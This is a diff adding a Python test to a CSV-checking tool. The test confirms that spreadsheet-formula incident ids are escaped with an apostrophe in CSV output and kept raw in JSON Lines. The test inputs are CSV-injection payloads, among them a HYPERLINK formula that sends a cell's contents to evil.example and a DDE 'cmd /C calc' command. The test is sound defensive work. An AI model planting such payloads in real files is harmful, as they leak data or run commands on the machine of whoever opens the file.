@@ -413,3 +413,24 @@ def test_ids_and_file_names_are_printed_as_given_never_as_emoji(tmp_path):
         assert "A-01:fire:" in r.stdout and "🔥" not in r.stdout
     r = jig("check", AGREEMENT, str(tmp_path / "x:b:y.csv"))
     assert r.returncode == 2 and "x:b:y.csv" in r.stderr and "🅱" not in r.stderr
+
+
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    """One party's incident id "=HYPERLINK(...)" ran in the other party's spreadsheet when it
+    opened the CSV: every such cell is written after an apostrophe, on both paths."""
+    rows = example_rows()
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1+1)"]
+    lines = [f'"{i.replace(chr(34), chr(34) * 2)}",' + rows[k].split(",", 1)[1]
+             for k, i in enumerate(hostile)]
+    path = tmp_path / "hostile.csv"
+    path.write_text(HEADER + "\n" + "\n".join(lines) + "\n", encoding="utf-8")
+    columns = jig("check", AGREEMENT, str(path), "-f", "csv")
+    one_by_one = jig("check", AGREEMENT, str(path), "-f", "csv", "--merge", "--merge-km", "0")
+    assert columns.returncode == 0 and one_by_one.returncode == 0, columns.stderr
+    assert columns.stdout == one_by_one.stdout
+    ids = [r[0] for r in csv.reader(io.StringIO(columns.stdout))][1:]
+    assert sorted(set(ids)) == sorted(f"'{i}" for i in hostile)
+    # JSON Lines, for programs, keeps the ids as sent.
+    lines = jig("check", AGREEMENT, str(path), "-f", "jsonl").stdout.splitlines()
+    assert [json.loads(x)["incident"] for x in lines] == hostile
